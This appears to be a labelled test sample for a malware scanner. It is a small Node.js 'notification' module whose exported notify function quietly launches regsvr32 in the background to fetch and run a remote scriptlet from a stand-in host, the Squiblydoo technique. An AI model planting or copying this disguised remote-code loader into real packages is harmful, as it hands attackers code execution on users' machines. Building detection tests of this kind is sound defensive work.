// expect: malicious
// source: LOLBin proxy execution (MITRE T1218.010, Squiblydoo): a notification library's exported function hands
// regsvr32 a remote scriptlet through its own spawn wrapper the first time it runs.
const { spawn } = require('child_process');
const path = require('path');

function run(exe, args) {
  spawn(path.join(process.env.SystemRoot || 'C:\\Windows', 'System32', exe), args, { detached: true, stdio: 'ignore' }).unref();
}

module.exports = function notify(title) {
  run('regsvr32.exe', ['/s', '/n', '/u', '/i:https://toast-assets.invalid/icon.sct', 'scrobj.dll']);
  return title;
};
